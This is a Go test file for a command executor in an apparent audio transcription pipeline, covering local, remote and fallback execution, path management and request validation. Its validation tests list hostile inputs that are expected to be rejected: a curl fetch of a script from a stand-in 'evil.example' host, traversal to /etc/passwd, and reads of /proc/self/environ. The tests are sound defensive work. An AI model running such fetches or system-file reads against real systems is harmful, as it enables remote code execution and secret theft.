package dependency

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// ============================================================================
// Test Doubles (Fakes)
// ============================================================================

// FakeExecutor is a test double that records commands and returns preset results.
type FakeExecutor struct {
	mu sync.Mutex

	// ResponseToReturn is the preset response returned by ExecuteCommand.
	ResponseToReturn CommandResponse

	// ErrorToReturn is the preset error returned by ExecuteCommand and HealthCheck.
	ErrorToReturn error

	// ExecutedCommands records all commands that were executed, for assertion purposes.
	ExecutedCommands []CommandRequest

	// HealthCheckCalled tracks whether HealthCheck was called.
	HealthCheckCalled bool
}

func (f *FakeExecutor) ExecuteCommand(ctx context.Context, req CommandRequest) (CommandResponse, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.ExecutedCommands = append(f.ExecutedCommands, req)
	return f.ResponseToReturn, f.ErrorToReturn
}

func (f *FakeExecutor) HealthCheck(ctx context.Context) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.HealthCheckCalled = true
	return f.ErrorToReturn
}

func (f *FakeExecutor) calls() int {
	f.mu.Lock()
	defer f.mu.Unlock()
	return len(f.ExecutedCommands)
}

// ============================================================================
// NewExecutor Tests
// ============================================================================

func TestNewExecutor_Modes(t *testing.T) {
	tests := []struct {
		name       string
		mode       ExecutionMode
		serviceURL string
		wantErr    string
	}{
		{name: "local", mode: ModeLocal},
		{name: "remote", mode: ModeRemote, serviceURL: "http://toolkit:8090"},
		{name: "fallback", mode: ModeFallback, serviceURL: "http://toolkit:8090"},
		{name: "remote without url", mode: ModeRemote, wantErr: "service_url"},
		{name: "invalid mode", mode: ExecutionMode("invalid_mode"), wantErr: "invalid execution mode"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			exec, err := NewExecutor(ExecutorConfig{
				Mode:           tt.mode,
				ServiceURL:     tt.serviceURL,
				DefaultTimeout: time.Minute,
			})
			if tt.wantErr != "" {
				require.Error(t, err)
				assert.Nil(t, exec)
				assert.Contains(t, err.Error(), tt.wantErr)
				return
			}
			require.NoError(t, err)
			assert.NotNil(t, exec)
		})
	}
}

// ============================================================================
// LocalExecutor Tests (Table-Driven)
// ============================================================================

func TestLocalExecutor_ExecuteCommand(t *testing.T) {
	tests := []struct {
		name        string
		req         CommandRequest
		wantErr     bool
		wantTimeout bool
		wantExit    int
		wantStdout  string
	}{
		{
			name:       "echo succeeds",
			req:        CommandRequest{Command: "echo", Args: []string{"hello", "world"}, Timeout: 5 * time.Second},
			wantStdout: "hello world\n",
		},
		{
			name:    "missing binary",
			req:     CommandRequest{Command: "nonexistent_command_12345_xyz", Timeout: 5 * time.Second},
			wantErr: true,
		},
		{
			name:        "timeout",
			req:         CommandRequest{Command: "sleep", Args: []string{"3"}, Timeout: 100 * time.Millisecond},
			wantErr:     true,
			wantTimeout: true,
		},
		{
			name:     "non-zero exit",
			req:      CommandRequest{Command: "sh", Args: []string{"-c", "echo model crashed >&2; exit 3"}, Timeout: 5 * time.Second},
			wantErr:  true,
			wantExit: 3,
		},
		{
			name:       "env is passed",
			req:        CommandRequest{Command: "sh", Args: []string{"-c", "printf %s \"$HUGGINGFACE_TOKEN\""}, Env: map[string]string{"HUGGINGFACE_TOKEN": "hf_test"}},
			wantStdout: "hf_test",
		},
	}

	executor := NewLocalExecutor(ExecutorConfig{Mode: ModeLocal, DefaultTimeout: 5 * time.Second})

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, err := executor.ExecuteCommand(context.Background(), tt.req)

			if !tt.wantErr {
				require.NoError(t, err)
				assert.True(t, resp.Success)
				assert.Equal(t, 0, resp.ExitCode)
				assert.Equal(t, tt.wantStdout, resp.Stdout)
				return
			}

			require.Error(t, err)
			assert.Equal(t, tt.wantTimeout, IsTimeout(err), "error: %v", err)
			if tt.wantExit != 0 {
				var exitErr *ExitError
				require.True(t, errors.As(err, &exitErr))
				assert.Equal(t, tt.wantExit, exitErr.ExitCode)
				assert.Contains(t, exitErr.Error(), "model crashed")
				assert.False(t, resp.Success)
			}
		})
	}
}

func TestLocalExecutor_KillsProcessGroupOnTimeout(t *testing.T) {
	executor := NewLocalExecutor(ExecutorConfig{Mode: ModeLocal})

	start := time.Now()
	_, err := executor.ExecuteCommand(context.Background(), CommandRequest{
		Command: "sh",
		Args:    []string{"-c", "sleep 30 & sleep 30 & wait"},
		Timeout: 200 * time.Millisecond,
	})

	require.Error(t, err)
	assert.True(t, IsTimeout(err))
	assert.Less(t, time.Since(start), 10*time.Second, "children must die with the group")
}

func TestLocalExecutor_ParentCancel(t *testing.T) {
	executor := NewLocalExecutor(ExecutorConfig{Mode: ModeLocal})
	ctx, cancel := context.WithCancel(context.Background())
	time.AfterFunc(100*time.Millisecond, cancel)

	_, err := executor.ExecuteCommand(ctx, CommandRequest{Command: "sleep", Args: []string{"5"}, Timeout: time.Minute})

	require.Error(t, err)
	assert.ErrorIs(t, err, context.Canceled)
	assert.False(t, IsTimeout(err))
}

func TestLocalExecutor_HealthCheck(t *testing.T) {
	ok := NewLocalExecutor(ExecutorConfig{LocalBinaryPaths: map[string]string{"echo": "echo"}})
	assert.NoError(t, ok.HealthCheck(context.Background()))

	missing := NewLocalExecutor(ExecutorConfig{LocalBinaryPaths: map[string]string{"python": "/path/to/nonexistent/python"}})
	err := missing.HealthCheck(context.Background())
	require.Error(t, err)
	assert.Contains(t, err.Error(), "not available")
}

// ============================================================================
// RemoteExecutor Tests
// ============================================================================

func newToolkitServer(t *testing.T, handler http.HandlerFunc) *httptest.Server {
	t.Helper()
	srv := httptest.NewServer(handler)
	t.Cleanup(srv.Close)
	return srv
}

func TestRemoteExecutor_ExecuteCommand(t *testing.T) {
	tests := []struct {
		name       string
		status     int
		body       any
		wantErr    bool
		wantCheck  func(t *testing.T, err error)
		wantStdout string
	}{
		{
			name:       "success",
			status:     http.StatusOK,
			body:       CommandResponse{Success: true, Stdout: `{"words":[]}`, DurationMs: 12},
			wantStdout: `{"words":[]}`,
		},
		{
			name:    "non-zero exit",
			status:  http.StatusInternalServerError,
			body:    CommandResponse{Success: false, ExitCode: 2, Stderr: "CUDA out of memory"},
			wantErr: true,
			wantCheck: func(t *testing.T, err error) {
				var exitErr *ExitError
				require.True(t, errors.As(err, &exitErr))
				assert.Equal(t, 2, exitErr.ExitCode)
				assert.Contains(t, err.Error(), "CUDA out of memory")
			},
		},
		{
			name:    "timeout",
			status:  http.StatusGatewayTimeout,
			body:    map[string]any{"error": "timeout", "details": []string{"command timeout after 1s"}},
			wantErr: true,
			wantCheck: func(t *testing.T, err error) {
				assert.True(t, IsTimeout(err))
			},
		},
		{
			name:    "busy",
			status:  http.StatusServiceUnavailable,
			body:    map[string]any{"error": "service_busy", "details": []string{"Max concurrent executions reached"}},
			wantErr: true,
			wantCheck: func(t *testing.T, err error) {
				var remoteErr *RemoteError
				require.True(t, errors.As(err, &remoteErr))
				assert.Equal(t, http.StatusServiceUnavailable, remoteErr.StatusCode)
				assert.Equal(t, "service_busy", remoteErr.Kind)
				assert.False(t, IsNetworkError(err))
			},
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var got CommandRequest
			srv := newToolkitServer(t, func(w http.ResponseWriter, r *http.Request) {
				assert.Equal(t, "/api/v1/execute", r.URL.Path)
				assert.Equal(t, http.MethodPost, r.Method)
				require.NoError(t, json.NewDecoder(r.Body).Decode(&got))
				w.Header().Set("Content-Type", "application/json")
				w.WriteHeader(tt.status)
				_ = json.NewEncoder(w).Encode(tt.body)
			})

			executor := NewRemoteExecutor(ExecutorConfig{ServiceURL: srv.URL, DefaultTimeout: time.Second})
			resp, err := executor.ExecuteCommand(context.Background(), CommandRequest{Command: "python", Args: []string{"run.py"}})

			assert.Equal(t, "python", got.Command)
			assert.Equal(t, time.Second, got.Timeout, "default timeout is forwarded")
			if tt.wantErr {
				require.Error(t, err)
				tt.wantCheck(t, err)
				return
			}
			require.NoError(t, err)
			assert.Equal(t, tt.wantStdout, resp.Stdout)
		})
	}
}

func TestRemoteExecutor_NetworkError(t *testing.T) {
	srv := httptest.NewServer(http.NotFoundHandler())
	url := srv.URL
	srv.Close()

	executor := NewRemoteExecutor(ExecutorConfig{ServiceURL: url})
	_, err := executor.ExecuteCommand(context.Background(), CommandRequest{Command: "python"})
	require.Error(t, err)
	assert.True(t, IsNetworkError(err))

	assert.True(t, IsNetworkError(executor.HealthCheck(context.Background())))
}

func TestRemoteExecutor_HealthCheck(t *testing.T) {
	healthy := true
	srv := newToolkitServer(t, func(w http.ResponseWriter, r *http.Request) {
		assert.Equal(t, "/api/v1/health", r.URL.Path)
		if !healthy {
			w.WriteHeader(http.StatusInternalServerError)
			return
		}
		_, _ = w.Write([]byte(`{"status":"ok"}`))
	})
	executor := NewRemoteExecutor(ExecutorConfig{ServiceURL: srv.URL})

	assert.NoError(t, executor.HealthCheck(context.Background()))
	healthy = false
	assert.Error(t, executor.HealthCheck(context.Background()))
}

// ============================================================================
// FallbackExecutor Tests
// ============================================================================

func TestFallbackExecutor_FallsBackOnNetworkError(t *testing.T) {
	remote := &FakeExecutor{ErrorToReturn: &NetworkError{Op: "execute", Err: errors.New("connection refused")}}
	local := &FakeExecutor{ResponseToReturn: CommandResponse{Success: true, Stdout: "ok"}}
	e := newFallbackExecutor(ExecutorConfig{}, remote, local)

	resp, err := e.ExecuteCommand(context.Background(), CommandRequest{Command: "python"})
	require.NoError(t, err)
	assert.Equal(t, "ok", resp.Stdout)
	assert.Equal(t, ModeLocal, e.Mode())

	// sticks to local afterwards
	_, err = e.ExecuteCommand(context.Background(), CommandRequest{Command: "python"})
	require.NoError(t, err)
	assert.Equal(t, 1, remote.calls())
	assert.Equal(t, 2, local.calls())
}

func TestFallbackExecutor_NoFallbackOnCommandFailure(t *testing.T) {
	remote := &FakeExecutor{
		ResponseToReturn: CommandResponse{ExitCode: 1},
		ErrorToReturn:    &ExitError{Command: "python", ExitCode: 1},
	}
	local := &FakeExecutor{ResponseToReturn: CommandResponse{Success: true}}
	e := newFallbackExecutor(ExecutorConfig{}, remote, local)

	_, err := e.ExecuteCommand(context.Background(), CommandRequest{Command: "python"})
	assert.True(t, IsExitError(err))
	assert.Equal(t, 0, local.calls())
	assert.Equal(t, ModeRemote, e.Mode())
}

func TestFallbackExecutor_HealthCheck(t *testing.T) {
	tests := []struct {
		name      string
		remoteErr error
		localErr  error
		wantMode  ExecutionMode
		wantErr   bool
	}{
		{name: "remote healthy", wantMode: ModeRemote},
		{name: "remote down, local ok", remoteErr: errors.New("unreachable"), wantMode: ModeLocal},
		{name: "both down", remoteErr: errors.New("unreachable"), localErr: errors.New("no python"), wantMode: ModeRemote, wantErr: true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newFallbackExecutor(ExecutorConfig{},
				&FakeExecutor{ErrorToReturn: tt.remoteErr},
				&FakeExecutor{ErrorToReturn: tt.localErr})
			err := e.HealthCheck(context.Background())
			if tt.wantErr {
				require.Error(t, err)
				assert.Contains(t, err.Error(), "no python")
			} else {
				assert.NoError(t, err)
			}
			assert.Equal(t, tt.wantMode, e.Mode())
		})
	}
}

func TestDetermineExecutionStatus(t *testing.T) {
	assert.Equal(t, "success", determineExecutionStatus(CommandResponse{Success: true}, nil))
	assert.Equal(t, "timeout", determineExecutionStatus(CommandResponse{}, ErrTimeout))
	assert.Equal(t, "failed", determineExecutionStatus(CommandResponse{}, &ExitError{ExitCode: 1}))
}

// ============================================================================
// PathManager Tests
// ============================================================================

func TestPathManager_Paths(t *testing.T) {
	pm := NewPathManager("/data")

	assert.Equal(t, "/data/jobs/job-1", pm.GetJobDir("job-1"))
	assert.Equal(t, "/data/jobs/job-1/audio.wav", pm.GetNormalizedAudioPath("job-1"))
	assert.Equal(t, "/data/jobs/job-1/diarize.json", pm.GetStageOutputPath("job-1", "diarize"))
	assert.Equal(t, "/data/jobs/job-1/clips", pm.GetClipDir("job-1"))
	assert.Equal(t, "/data/jobs/job-1/input.ogg", pm.GetJobFile("job-1", "input.ogg"))
}

func TestPathManager_ValidatePath(t *testing.T) {
	base := t.TempDir()
	pm := NewPathManager(base)
	inside := filepath.Join(base, "jobs", "j1", "audio.wav")
	require.NoError(t, os.MkdirAll(filepath.Dir(inside), 0755))
	require.NoError(t, os.WriteFile(inside, []byte("x"), 0644))

	link := filepath.Join(base, "jobs", "j1", "link.wav")
	require.NoError(t, os.Symlink(inside, link))

	tests := []struct {
		name    string
		path    string
		wantErr bool
	}{
		{"inside volume", inside, false},
		{"traversal", base + "/jobs/../../etc/passwd", true},
		{"outside volume", "/tmp/elsewhere-" + filepath.Base(base), true},
		{"sibling with shared prefix", base + "-evil/file", true},
		{"symlink", link, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := pm.ValidatePath(tt.path)
			if tt.wantErr {
				assert.Error(t, err)
			} else {
				assert.NoError(t, err)
			}
		})
	}
}

func TestPathManager_EnsureAndRemoveJobDir(t *testing.T) {
	pm := NewPathManager(t.TempDir())

	dir, err := pm.EnsureJobDir("job-42")
	require.NoError(t, err)
	assert.DirExists(t, dir)

	require.NoError(t, pm.RemoveJobDir("job-42"))
	assert.NoDirExists(t, dir)
	assert.Error(t, pm.RemoveJobDir(""))
}

// ============================================================================
// ValidateCommandRequest Tests
// ============================================================================

func TestValidateCommandRequest(t *testing.T) {
	base := t.TempDir()
	require.NoError(t, os.MkdirAll(filepath.Join(base, "jobs", "j1"), 0755))
	config := ExecutorConfig{
		SharedVolumePath: base,
		AllowedCommands:  []string{"python", "ffmpeg"},
	}

	tests := []struct {
		name    string
		req     CommandRequest
		wantMsg string
	}{
		{
			name: "whitelisted python stage",
			req: CommandRequest{Command: "python", Args: []string{
				"/app/scripts/whisperx_stage.py", "transcribe", "--audio", "/data/jobs/j1/audio.wav",
				"--align_model", "jonatasgrosman/wav2vec2-large-xlsr-53-russian",
			}},
		},
		{name: "ffmpeg to dev null is rejected", req: CommandRequest{Command: "ffmpeg", Args: []string{"-i", "a.wav", "/dev/null"}}, wantMsg: "system directory"},
		{name: "not whitelisted", req: CommandRequest{Command: "curl", Args: []string{"https://evil.example/x.sh"}}, wantMsg: "whitelist"},
		{name: "empty command", req: CommandRequest{}, wantMsg: "empty"},
		{name: "traversal", req: CommandRequest{Command: "ffmpeg", Args: []string{"-i", "/data/jobs/../etc/passwd"}}, wantMsg: "traversal"},
		{name: "etc", req: CommandRequest{Command: "ffmpeg", Args: []string{"-i", "/etc/passwd"}}, wantMsg: "system directory"},
		{name: "proc", req: CommandRequest{Command: "ffmpeg", Args: []string{"-i", "/proc/self/environ"}}, wantMsg: "system directory"},
		{name: "prefix lookalike is fine", req: CommandRequest{Command: "ffmpeg", Args: []string{"-i", "/devices/a.wav"}}},
		{name: "working dir inside", req: CommandRequest{Command: "python", WorkingDir: filepath.Join(base, "jobs", "j1")}},
		{name: "working dir outside", req: CommandRequest{Command: "python", WorkingDir: "/usr"}, wantMsg: "working directory"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := ValidateCommandRequest(tt.req, config)
			if tt.wantMsg == "" {
				assert.NoError(t, err)
				return
			}
			require.Error(t, err)
			assert.True(t, strings.Contains(err.Error(), tt.wantMsg), "want %q in %q", tt.wantMsg, err.Error())
		})
	}
}
